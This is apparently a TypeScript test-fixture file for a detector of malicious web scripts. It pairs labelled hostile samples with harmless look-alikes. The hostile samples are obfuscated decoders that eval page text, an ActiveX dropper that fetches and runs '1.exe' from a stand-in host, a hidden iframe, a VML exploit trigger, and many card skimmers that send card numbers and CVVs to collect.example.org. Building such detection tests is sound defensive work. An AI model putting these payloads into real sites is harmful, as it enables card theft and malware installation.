// Scripts that decode text of the page or of themselves in ways of exploit kits and droppers, with their expected
// verdicts, and harmless ones that share a method with them. They are inert: none of them is ever run, and the hosts do
// not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import { base64, type ScriptCase } from './score-script.cases.ts'

const FRAME = `document.write('<iframe src="http://a.example.net/x" width=1 height=1 style="visibility:hidden"></iframe>')`
const DROPPER = `var s=new ActiveXObject('WScript.Shell'),x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://a.example.net/1.exe',false);x.send();var b=new ActiveXObject('ADODB.Stream');b.open();b.type=1;b.write(x.responseBody);b.saveToFile('1.exe',2);s.Run('1.exe',0,0)`

/** Each character of it is followed by two others. */
const SPREAD = JSON.stringify([...DROPPER].map((c) => `${c}zq`).join(''))

const numbers = (text: string, by: string): string =>
  Array.from(text, (letter) => letter.charCodeAt(0)).join(by)

/** A decoder of base64, as old kits have it, with its names put together. */
const DECODE = `function d(s){var e={},i,b=0,c,x,l=0,a,r='',w=String['from'+'CharCode'],L=s.length,A='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';for(i=0;i<64;i++)e[A['char'+'At'](i)]=i;for(x=0;x<L;x++){c=e[s['char'+'At'](x)];b=(b<<6)+c;l+=6;while(l>=8)((a=(b>>>(l-=8))&255)||x<L-2)&&(r+=w(a))}return r}`
/** A decoder by a key: a character that is no number counts as none. */
const BY_KEY = `function n(t){var v=t['char'+'CodeAt'](0);return isNaN(v)?0:v}function d(s,k){var o='';for(var i=0;i<s.length;i++){var c=n(s['sub'+'str'](i,1))^k;if(c<32)c=63;o+=String['from'+'CharCode'](c)}return o}`
/** Puts the columns of a text into another order. */
const BY_COLUMNS = `function d(s,k){var o='',p=k.split('').map(function(c){return k.split('').sort().indexOf(c)});for(var i=0;i<s.length;i+=k.length){var l=s['sub'+'str'](i,k.length)['spl'+'it']('');for(var j=0;j<k.length;j++)o+=l[p[j]]}return o}`
const TEXT = `document['get'+'ElementById']('q7')['inner'+'HTML']`

/** Decodes the text of the page, or what a field of it has, and runs it. */
const RUNS_DECODED = `${DECODE};var n=document['create'+'Element']('scr'+'ipt');n.text=d(${TEXT}.replace(/-/g,'/'));document.body.appendChild(n)`
const RUNS_FIELD = RUNS_DECODED.replace(`['inner'+'HTML']`, '.value')
const ENCODED = 'qb3-'.repeat(100)
const CARD_SENT = `var a=document.querySelector('#cc_number').value+document.querySelector('#cc_cvv').value;new Image().src='https://collect.example.org/?'+a;`
/** Longer than what is analyzed as a whole. */
const PROSE = '<p>some words of an article</p>'.repeat(12_000)
const pageWith = (script: string, text = ENCODED): string =>
  `<!doctype html><p id="q7">${text}</p><script>${script}</script>`

const TYPED = `{n:document.querySelector('#cc_number').value,c:document.querySelector('#cc_cvv').value}`
const SENDS = `(d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d)))`
const AT_ORDER = (statements: string): string =>
  `document.querySelector('#place_order').addEventListener('click',function(){${statements}})`

export const DECODED_PAGE_CASES: readonly ScriptCase[] = [
  {
    name: 'text of the page, decoded by a loop and run as a script',
    source: RUNS_DECODED,
    head: 'malware',
  },
  ...[
    ['that has the text', pageWith(RUNS_DECODED)],
    [
      'that begins with a field that has the text',
      `<input id="q7" type="hidden" value="${ENCODED}"><script>${RUNS_FIELD}</script>`,
    ],
    [
      'that a script writes',
      `document.write('<p id="q7">${ENCODED}</p><script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`,
    ],
    [
      'that a script writes in two parts',
      `document.write('<p id="q7">${ENCODED}</p>');document.write('<script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`,
    ],
    ['with a listener', pageWith(`${RUNS_DECODED};document.addEventListener('click',function(){var a=1})`)],
    [
      'with a listener in another script',
      `<!doctype html><script>document.addEventListener('click',function(){var a=1})</script><script>${RUNS_DECODED}</script>`,
    ],
    ['by a timer with a text', pageWith(`setTimeout(${JSON.stringify(RUNS_DECODED)},1)`)],
    [
      'by a script that the page writes',
      pageWith(`document.write('<script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`),
    ],
    ['with a short text', pageWith(RUNS_DECODED, 'qb3-'.repeat(20))],
    ['whose text stands around another element', pageWith(RUNS_DECODED, `qb3-<b></b>${ENCODED}`)],
    [
      'behind a comment that ends with an exclamation mark',
      `<!doctype html><script>var a=1</script><!-- a --!>${pageWith(RUNS_DECODED)}`,
    ],
    ['that begins with the end of an element', `</title>${pageWith(RUNS_DECODED)}`],
    ['behind a long text', pageWith(`${RUNS_DECODED}`, `${ENCODED}</p>${'<p>some words'.repeat(30_000)}`)],
  ].map(([which, source = '']): ScriptCase => ({
    name: `text of a page ${which}, decoded and run`,
    source,
    head: 'malware',
  })),
  {
    name: 'text of a page that only the second run decodes, behind a loop over the text, written as a script',
    source: `<p id="q">${'ab'.repeat(300)}</p><script>var t=document.getElementById('q').innerHTML;${'var n=t.length*1e7;for(var i=0;i<n;i++){x=t.charCodeAt(i%9)+i};'.repeat(40)}var o='',e=${JSON.stringify([...`<script>${CARD_SENT}</script>`].map((c) => c.charCodeAt(0) ^ 7))};for(var k=0;k<e.length;k++)o+=String.fromCharCode(e[k]^7);document.write(o)</script>`,
    head: 'magecart',
  },
  {
    name: 'a card behind much code that only the second run finds',
    source: `<p id="q">a</p><script>var t=document.getElementById('q').innerHTML;for(var j=0;j<45;j++){if(t==='a')break;setTimeout('window.jj'+j+'='+j+'12345')}var o='',e=${JSON.stringify([...CARD_SENT].map((c) => c.charCodeAt(0) ^ 7))};for(var k=0;k<e.length;k++)o+=String.fromCharCode(e[k]^7);setTimeout(o)</script>`,
    head: 'magecart',
  },
  {
    name: 'a card in text of a page that is long',
    source: `<p id="q7">${base64(CARD_SENT)}</p><script>eval(atob(document.getElementById('q7').innerHTML))</script>${PROSE}`,
    head: 'magecart',
  },
  {
    name: 'a card by a handler in a page that is long',
    source: `<input id="cc_number" name="cardnumber" onchange="navigator.sendBeacon('https://collect.example.org/?'+this.value)">${PROSE}`,
    head: 'magecart',
  },
  ...['<br />\n<b>Warning</b>: Undefined variable\n', '<any>window.a=1;\n'].flatMap((start) =>
    ['', `\nel.innerHTML='<a onclick="go()">x</a>'`].map((end): ScriptCase => ({
      name: `a card in a broken script that begins with ${start.slice(0, 5)}${end === '' ? '' : ', with markup in a string'}`,
      source: `${start}${CARD_SENT}${end}`,
      head: 'magecart',
    })),
  ),
  {
    name: 'a card behind a comment that goes on',
    source: `<!doctype html><!--!><script>/*--><script>${CARD_SENT}</script>`,
    head: 'magecart',
  },
  {
    name: 'text of the page, found by a pattern',
    source: `${DECODE};var m=new window['Reg'+'Exp']('q7.?>(.*?)<\\/p','gi')['ex'+'ec'](document.body['outer'+'HTML']);window['ev'+'al'](d(m[1]))`,
    head: 'malware',
  },
  {
    name: 'text of the page, decrypted by a key and run by a constructor',
    source: `${BY_KEY};(function(){})['constr'+'uctor'](d(${TEXT},77))()`,
    head: 'malware',
  },
  {
    name: 'text of the page, its columns in another order',
    source: `${BY_COLUMNS};eval(d(${TEXT},'k3xa9'))`,
    head: 'malware',
  },
  {
    name: 'text of the page that is decoded and run, with an export that nothing uses',
    source: `${DECODE};eval(d(${TEXT}));if(typeof module==='object')module.exports={version:'1.2'}`,
    head: 'malware',
  },
  {
    name: 'text of the page that is decrypted and run, at a checkout, with an export that nothing uses',
    source: `if(/checkout/.test(location.href)){var t=document.title,o='';for(var i=0;i<t.length;i++)o+=String.fromCharCode(t.charCodeAt(i)^7);eval(o)}module.exports={}`,
    head: 'malware',
  },
  {
    name: 'hidden fields of the page, put together from pairs of digits',
    source: `var t='';for(var i=0;i<9;i++)t+=document['get'+'ElementById']('x8dP'+i).value;var o='';for(var j=0;j<t.length;j+=2)o+=String['from'+'CharCode'](parseInt(t.slice(j,j+2),16)^5);eval(o)`,
    head: 'malware',
  },
  {
    name: 'a script whose text grows number by number, with a String of another script',
    source: `var t='${numbers(FRAME, 't6')}'.split('t6'),n=document['creat'+'eElement']('sc'+'ript');for(var i=0;i<t.length;i++)n.text+=box['fromCha'+'rCode'](t[i]);document.body.appendChild(n)`,
    head: 'malware',
  },
  {
    name: 'a hidden frame from pairs, cut by a pattern with a group',
    source: `var d=function(s){var o='',p=s.match(/(..)/g);for(var i=0;i<p.length;i++)o+=String.fromCharCode(parseInt(p[i],29));return o};document[d('${Array.from('write', (c) => c.charCodeAt(0).toString(29)).join('')}')](d('${Array.from('<iframe src="http://a.example.net/x" width=1 height=1 style="visibility:hidden"></iframe>', (c) => c.charCodeAt(0).toString(29).padStart(2, '0')).join('')}'))`,
    head: 'malware',
  },
  {
    name: 'a small applet in escapes',
    source: `document.write(unescape('${[...'<applet archive="http://a.example.net/x.jar" code="a" width=10 height=9></applet>'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}'))`,
    head: 'malware',
  },
  {
    name: 'a dropper whose names are first letters, by a method of strings that it adds',
    source: `String.prototype.e=function(){return this.charAt(0)};var w=this[('lamp','Atlas'.e())+'ctiveXO'+('river','bridge'.e())+'ject'];var s=new w('W'+'Script.S'+('x','hotel'.e())+'ell'),x=new w('MSX'+'ML2.X'+('a','Mole'.e())+'LHTTP');x.open('GET','http://a.example.net/1.exe',false);x.send();s[('b','Road'.e())+'un']('1.exe',0,0)`,
    head: 'malware',
  },
  {
    name: 'a dropper decoded by a function that evaluated code declares',
    source: `eval("function cn(t){var o='';for(var i=0;i<t.length;i+=3)o+=t.charAt(i);return o}");eval(cn(${SPREAD}))`,
    head: 'malware',
  },
  {
    name: 'a dropper that is decoded only where there is a dictionary',
    source: `var step=3;var y=new ActiveXObject('Scripting.Dictionary');y.add('a','t');if(y.Item('a')=='t'){step=3}else{step=0}var c=${SPREAD}.split(''),o='';for(var i=0;i<c.length;i+=step)o+=c[i];this['ev'+'al'](o)`,
    head: 'malware',
  },
  {
    name: 'a dropper as a sum of a thousand characters',
    source: `function R(n){return String.fromCharCode(n)}function E(t){eval(t)}E(${[...DROPPER, ...' '.repeat(900)].map((c) => `R(${c.charCodeAt(0) + 3}-3)`).join('+')})`,
    head: 'malware',
  },
  {
    name: 'a stored program in base64 that is run',
    source: `var d=new ActiveXObject('Msxml2.DOMDocument.6.0').createElement('t');d.dataType='bin.base64';d.text='dmFyIGE9MTs=';var b=new ActiveXObject('ADODB.Stream');b.Open();b.Write(d.nodeTypedValue);b.SaveToFile('a.js',2);new ActiveXObject('WScript.Shell').Run('a.js',0,0)`,
    head: 'malware',
  },
  {
    name: 'a known hole of shapes',
    source: `document.namespaces.add('v','urn:schemas-microsoft-com:vml','#default#VML');var n=document.createElement('v:stroke');n.dashstyle='1 2 3 4';n.dashstyle.array.length=-1;var r=document.createElement('v:shape')._vgRuntimeStyle`,
    head: 'malware',
  },
  {
    name: 'files of the computer, asked for by the error of a document',
    source: `function has(p){var x=new ActiveXObject('Microsoft.XMLDOM');x.async=true;x.loadXML('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "res://c:\\\\Windows\\\\System32\\\\drivers\\\\'+p+'">');return x.parseError.errorCode!=0}if(!has('kl1.sys'))document.write('<object data="/f.swf"></object>')`,
    head: 'malware',
  },
  {
    name: 'decoded code of another host, given to eval itself',
    source: `setTimeout(()=>fetch('https://cdn.stat.example.org/u').then(r=>r.text()).then(atob).then(eval),3000)`,
    head: 'malware',
  },
  {
    name: 'a card in an event that the script makes itself',
    source: `document.addEventListener('x:ready',function(e){navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(e.detail))});document.querySelector('#place_order').addEventListener('click',function(){document.dispatchEvent(new CustomEvent('x:ready',{detail:{n:document.querySelector('#cc_number').value,c:document.querySelector('#cc_cvv').value}}))})`,
    head: 'magecart',
  },
  {
    name: 'a card in an event whose listener comes later',
    source: `document.querySelector('#place_order').addEventListener('click',function(){document.dispatchEvent(new CustomEvent('x:ready',{detail:document.querySelector('#cc_number').value+'|'+document.querySelector('#cc_cvv').value}));document.addEventListener('x:ready',function(e){new Image().src='https://collect.example.org/c?'+e.detail})})`,
    head: 'magecart',
  },
  {
    name: 'a card in an event that gets its name and its data later',
    source: `document.addEventListener('x:r',function(e){${SENDS}(e.detail)});${AT_ORDER(`var e=document.createEvent('CustomEvent');e.initCustomEvent('x:r',true,true,${TYPED});document.dispatchEvent(e)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in a member of an event',
    source: `document.addEventListener('x:r',function(e){${SENDS}(e.info)});${AT_ORDER(`var e=document.createEvent('Event');e.initEvent('x:r',true,true);e.info=${TYPED};document.dispatchEvent(e)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in an event, and then nothing in one of the same name',
    source: `${AT_ORDER(`var e=new Event('x:r');e.info=${TYPED};dispatchEvent(e);dispatchEvent(new Event('x:r'));addEventListener('x:r',function(e){${SENDS}(e.info)})`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in the last of many members of an event',
    source: `document.addEventListener('x:r',function(e){${SENDS}(e.info)});${AT_ORDER(`var e=new Event('x:r');for(var i=0;i<30;i++)e['k'+i]=i;e.info=${TYPED};document.dispatchEvent(e)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in the last of many members of an event that have typed text',
    source: `document.addEventListener('x:r',function(e){${SENDS}(e.info)});${AT_ORDER(`var e=new Event('x:r');for(var i=0;i<60;i++)e['k'+i]=document.querySelector('#city').value;e.info=${TYPED};document.dispatchEvent(e)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by the last of many getters',
    source: `var o={};for(var i=0;i<30;i++)Object.defineProperty(o,'k'+i,{enumerable:true,get:function(){return 1}});Object.defineProperty(o,'n',{enumerable:true,get:function(){return document.querySelector('#cc_number').value}});${AT_ORDER(`new Image().src='https://collect.example.org/c?'+JSON.stringify(o)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in a private field behind many other members',
    source: `class K{${Array.from({ length: 30 }, (_, i) => `a${i}=${i};m${i}(){}`).join('')}#n='';take(){this.#n=JSON.stringify(${TYPED})}go(){navigator.sendBeacon('https://collect.example.org/c',this.#n)}}const k=new K();${AT_ORDER('k.take();k.go()')}`,
    head: 'magecart',
  },
  {
    name: 'a card by the ports of a channel',
    source: `const {port1,port2}=new MessageChannel();port1.addEventListener('message',e=>${SENDS}(e.data));port1.start();${AT_ORDER(`port2.postMessage(${TYPED})`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by a port whose handler comes later',
    source: `const c=new MessageChannel();${AT_ORDER(`c.port2.postMessage(${TYPED});c.port1.onmessage=e=>${SENDS}(e.data)`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by a broadcast to the script itself',
    source: `var a=new BroadcastChannel('z'),b=new BroadcastChannel('z');a.onmessage=function(e){${SENDS}(e.data)};${AT_ORDER(`b.postMessage(${TYPED})`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by a message to its own window',
    source: `window.addEventListener('message',function(e){${SENDS}(e.data)});${AT_ORDER(`window.postMessage(${TYPED},'*')`)}`,
    head: 'magecart',
  },
  ...[
    ['bare calls', `addEventListener('message',e=>${SENDS}(e.data))`, `postMessage(${TYPED},'*')`],
    ['bare names, without an origin', `onmessage=e=>${SENDS}(e.data)`, `postMessage(${TYPED})`],
    [
      'the window of the document',
      `document.defaultView.onmessage=e=>${SENDS}(e.data)`,
      `document.defaultView.postMessage(${TYPED},'*')`,
    ],
    [
      'a handler of the body',
      `document.body.onmessage=e=>${SENDS}(e.data)`,
      `window.postMessage(${TYPED},'*')`,
    ],
    [
      'an event that rises from the body',
      `window.onmessage=e=>${SENDS}(e.data)`,
      `document.body.dispatchEvent(new MessageEvent('message',{bubbles:true,data:${TYPED}}))`,
    ],
    [
      'an event that its socket gets',
      `var s=new WebSocket('wss://live.example.org/');s.onmessage=e=>${SENDS}(e.data)`,
      `s.dispatchEvent(new MessageEvent('message',{data:${TYPED}}))`,
    ],
    [
      'an object that may be the window',
      `function start(w){w.addEventListener('message',e=>${SENDS}(e.data))}`,
      `self.postMessage(${TYPED},'*')`,
    ],
  ].map(([by, listens = '', posts = '']): ScriptCase => ({
    name: `a card by a message to the script itself: ${by}`,
    source: `${listens};${AT_ORDER(posts)}`,
    head: 'magecart',
  })),
  {
    name: 'a card over a socket in a field of an object',
    source: `class K{#ws;open(){this.#ws=new WebSocket('wss://collect.example.org/w')}go(d){this.#ws.send(d)}}const k=new K();k.open();${AT_ORDER(`k.go(btoa(JSON.stringify(${TYPED})))`)}`,
    head: 'magecart',
  },
  {
    name: 'a card to a worker of the script, which sends it',
    source: `var w=new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){fetch('https://collect.example.org/c',{method:'POST',mode:'no-cors',body:e.data})}"],{type:'text/javascript'})));document.querySelector('#place_order').addEventListener('click',function(){w.postMessage(btoa(document.querySelector('#cc_number').value+'|'+document.querySelector('#cc_cvv').value))})`,
    head: 'magecart',
  },
  ...[
    ['its own object in a handler of the window', 'window.onload=function(){this.onmessage=H}'],
    ['its own object, which listens', `window.onload=function(){this.addEventListener('message',H)}`],
    [
      'the object of an event',
      `addEventListener('load',function(e){e.currentTarget.addEventListener('message',H)})`,
    ],
    ['the body, found by its name', `document.querySelector('body').onmessage=H`],
    ['the first body', `document.getElementsByTagName('body')[0].onmessage=H`],
    ['a list of jQuery with the window', `$(window).on('message',function(e){H(e.originalEvent)})`],
  ].map(([by, listens = '']): ScriptCase => ({
    name: `a card that is posted to the window and sent by a listener of ${by}`,
    source: `function H(e){${SENDS}(e.data)}${listens};${AT_ORDER(`window.postMessage(${TYPED},'*')`)}`,
    head: 'magecart',
  })),
  ...[
    [
      'of a library for a list',
      `_.each([document.querySelector('#cc_number').value],function(v){new Image().src='https://collect.example.org/i.gif?'+v})`,
    ],
    [
      'of jQuery for the fields of a form',
      `$.each($('#co-payment-form input'),function(i,el){new Image().src='https://collect.example.org/i.gif?'+$(el).val()})`,
    ],
    [
      'of a library that maps',
      `navigator.sendBeacon('https://collect.example.org/c',_.map([document.querySelector('#cc_number').value],function(v){return v}))`,
    ],
  ].map(([of, sends = '']): ScriptCase => ({
    name: `a card that a call ${of} sends`,
    source: AT_ORDER(sends),
    head: 'magecart',
  })),
]

export const HONEST_DECODED_PAGES: readonly HonestCase[] = [
  {
    name: 'an explanation of skimmers, with their code',
    source: `<h2>How card skimmers work</h2><pre><code>document.querySelector('form').addEventListener('submit',function(){${CARD_SENT}})</code></pre><button onclick="history.back()">Back</button>`,
  },
  {
    name: 'an article with the code of a skimmer, and a script',
    source: `<article><pre>${CARD_SENT}</pre><script>document.querySelector('pre').classList.add('light')</script>`,
  },
  {
    name: 'a library that shows what to avoid',
    source: `el.innerHTML='<h3>What to avoid</h3><pre>setInterval(function(){fetch("https://collect.example.org/?"+localStorage.getItem("t")+document.cookie)},100)</pre><button onclick="closeHelp()">x</button>'`,
  },
  {
    name: 'a page that counts the words of its long text',
    source: `<!doctype html><p id="t">${'some words of an article '.repeat(20)}</p><script>var t=document.getElementById('t').textContent;document.title=t.split(' ').length+' words'</script>`,
  },
  {
    name: 'a page whose state is encoded in an attribute',
    source: `<div id="app" data-state="${base64(JSON.stringify({ items: Array(40).fill('item') }))}"></div><script>window.state=JSON.parse(atob(document.getElementById('app').dataset.state));document.write('<ul>'+state.items.map(function(i){return'<li>'+i}).join('')+'</ul>')</script>`,
  },
  {
    name: 'a template of the page, compiled character by character',
    source: `function compile(id){var t=document.getElementById(id).innerHTML,o="var p=[];with(d){p.push('";for(var i=0;i<t.length;i++){var c=t.charAt(i);o+=c==='\\n'?'\\\\n':c}return new Function('d',o+"')}return p.join('')")}document.body.innerHTML=compile('row')({})`,
  },
  {
    name: 'scripts of a fragment that a page loads, run again',
    source: `function runScripts(box){var all=box.getElementsByTagName('script');for(var i=0;i<all.length;i++)window.eval(all[i].text||all[i].textContent||all[i].innerHTML||'')}runScripts(document.getElementById('content'))`,
  },
  {
    name: 'an editor of code that runs what stands in it, and counts its brackets',
    source: `var e=document.getElementById('code');document.getElementById('run').onclick=function(){var t=e.value,n=0;for(var i=0;i<t.length;i++){if(t.charAt(i)==='(')n++;if(t.charAt(i)===')')n--}if(n===0)eval(t)}`,
  },
  {
    name: 'a headline that appears letter by letter',
    source: `var h=document.querySelector('h1'),l=h.textContent.split('');h.innerHTML='';l.forEach(function(c,i){setTimeout(function(){h.innerHTML+='<span>'+c+'</span>'},i*60)})`,
  },
  {
    name: 'a sum over the characters of a page, for a test of variants',
    source: `var t=document.title+document.body.textContent,h=0;for(var i=0;i<t.length;i++){h=(h<<5)-h+t.charCodeAt(i);h|=0}document.body.className+=' v'+(h&1)`,
  },
  {
    name: 'a method of strings for templates',
    source: `String.prototype.format=function(){var a=arguments;return this.replace(/\\{(\\d)\\}/g,function(m,i){return a[i]})};document.querySelector('#hi').textContent='Hello {0}'.format(document.querySelector('#hi').dataset.name)`,
  },
  {
    name: 'code of the own site, put into a script piece by piece',
    source: `var s=document.createElement('script');s.text+='window.dataLayer=window.dataLayer||[];';s.text+='dataLayer.push({page:"'+document.title+'"})';document.head.appendChild(s)`,
  },
  {
    name: 'pairs of digits of a color',
    source: `var c='#3366ff'.slice(1).match(/(..)/g).map(function(p){return parseInt(p,16)});document.body.style.background='rgb('+c.join(',')+')'`,
  },
  {
    name: 'an applet of a chat with its size, in escapes',
    source: `document.write(unescape('${[...'<applet archive="chat.jar" code="Chat" width=600 height=400></applet>'].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}'))`,
  },
  {
    name: 'charts in shapes of old browsers',
    source: `if(document.namespaces){document.namespaces.add('v','urn:schemas-microsoft-com:vml','#default#VML');var s=document.createElement('v:stroke');s.dashstyle='shortdash';s.color='#369'}`,
  },
  {
    name: 'the page of an error of old browsers, and a parser of XML',
    source: `function parse(t){var x=new ActiveXObject('Microsoft.XMLDOM');x.async='false';x.loadXML(t);if(x.parseError.errorCode!==0)throw new Error(x.parseError.reason);return x}function isBroken(f){return f.contentWindow.location.href.indexOf('res://ieframe.dll/')===0}`,
  },
  {
    name: 'a response given to a parser itself',
    source: `fetch('/api/cart').then(r=>r.text()).then(JSON.parse).then(c=>{document.querySelector('#count').textContent=c.items.length})`,
  },
  {
    name: 'an event with a language that a listener counts',
    source: `document.addEventListener('lang:changed',function(e){navigator.sendBeacon('https://stats.example.org/l',e.detail.lang)});document.querySelector('#lang').addEventListener('change',function(){document.dispatchEvent(new CustomEvent('lang:changed',{detail:{lang:document.documentElement.lang}}))})`,
  },
  {
    name: 'an event with a card for the form of the own site',
    source: `document.addEventListener('card:typed',function(e){document.querySelector('.preview').textContent=e.detail.number.replace(/\\d(?=.*\\d{4})/g,'*')});document.querySelector('#cc_number').addEventListener('input',function(){document.dispatchEvent(new CustomEvent('card:typed',{detail:{number:this.value}}))})`,
  },
  {
    name: 'a channel that only breaks up work, and a payment by the own site',
    source: `var c=new MessageChannel(),q=[];c.port1.onmessage=function(){var f=q.shift();if(f)f()};function later(f){q.push(f);c.port2.postMessage(null)}document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();later(function(){fetch('/api/pay',{method:'POST',body:JSON.stringify(${TYPED})}).then(r=>r.json()).then(done)})})`,
  },
  {
    name: 'a message about what was typed, for a form of the own site',
    source: `window.addEventListener('message',function(e){if(e.data&&e.data.brand)document.querySelector('.brand').className='brand '+e.data.brand});document.querySelector('#cc_number').addEventListener('input',function(){window.postMessage({brand:this.value.charAt(0)==='4'?'visa':'other'},location.origin)})`,
  },
  {
    name: 'an event of old browsers with a size, which is counted',
    source: `window.addEventListener('x:size',function(e){navigator.sendBeacon('https://stats.example.org/s',e.detail.width)});var e=document.createEvent('CustomEvent');e.initCustomEvent('x:size',true,true,{width:innerWidth});window.dispatchEvent(e)`,
  },
  ...[
    ['a socket', `new WebSocket('wss://live.example.org/')`],
    ['a broadcast', `new BroadcastChannel('errors')`],
    ['a port', `new MessageChannel().port1`],
    ['a worker of another file', `new Worker('/rates.js')`],
    ['a library', `bus.connect()`],
  ].map(([of, made = '']): HonestCase => ({
    name: `a card field that posts to its window, beside messages of ${of} that are logged`,
    source: `var log=${made};log.onmessage=function(e){navigator.sendBeacon('https://log.example.net/m',e.data)};document.querySelector('#cc_number').addEventListener('change',function(){window.postMessage({number:this.value},location.origin)})`,
  })),
  {
    name: 'a card field that posts to the page around it, beside messages of a socket that are logged',
    source: `var s=new WebSocket('wss://live.example.org/');s.addEventListener('message',function(e){fetch('https://log.example.net/m',{method:'POST',body:e.data})});document.querySelector('#pay').addEventListener('click',function(){parent.postMessage(${TYPED},'https://shop.example')})`,
  },
  {
    name: 'a card that a worker checks, beside messages of a socket that are logged',
    source: `var w=new Worker(URL.createObjectURL(new Blob(['onmessage=function(e){postMessage(luhn(e.data))}'])));document.querySelector('#cc_number').onchange=function(){w.postMessage(this.value)};var s=new WebSocket('wss://live.example.org/');s.onmessage=function(e){navigator.sendBeacon('https://log.example.net/m',e.data)}`,
  },
  {
    name: 'a worker of the script that sorts a table',
    source: `var w=new Worker(URL.createObjectURL(new Blob(['onmessage=function(e){postMessage(e.data.sort())}'])));w.onmessage=function(e){draw(e.data)};document.querySelector('#filter').onchange=function(){w.postMessage([this.value].concat(rows))}`,
  },
  {
    name: 'a library that names empty fields, which are counted',
    source: `document.querySelector('#place_order').addEventListener('click',function(){var empty=_.map({cc_number:document.querySelector('#cc_number').value,cvv:document.querySelector('#cc_cvv').value},function(x,k){return x?'':k}).join();navigator.sendBeacon('https://stats.example.org/empty',empty)})`,
  },
  {
    name: 'a library that says how long a number is',
    source: `document.querySelector('#cc_number').addEventListener('change',function(){navigator.sendBeacon('https://stats.example.org/l',_.map([this.value],function(v){return v.length<12?'short':'ok'}))})`,
  },
  {
    name: 'a dialog that gets the form, and whose number is counted',
    source: `document.querySelector('#pay').addEventListener('click',function(){var form={number:document.querySelector('#cc_number').value};var shown=modal.open({form:form});navigator.sendBeacon('https://stats.example.org/d',shown.id)})`,
  },
  {
    name: 'a draft that a library stores, and whose result is counted',
    source: `document.querySelector('#pay').addEventListener('click',async function(){var r=await db.setItem('draft',{number:document.querySelector('#cc_number').value});navigator.sendBeacon('https://stats.example.org/d',r)})`,
  },
]
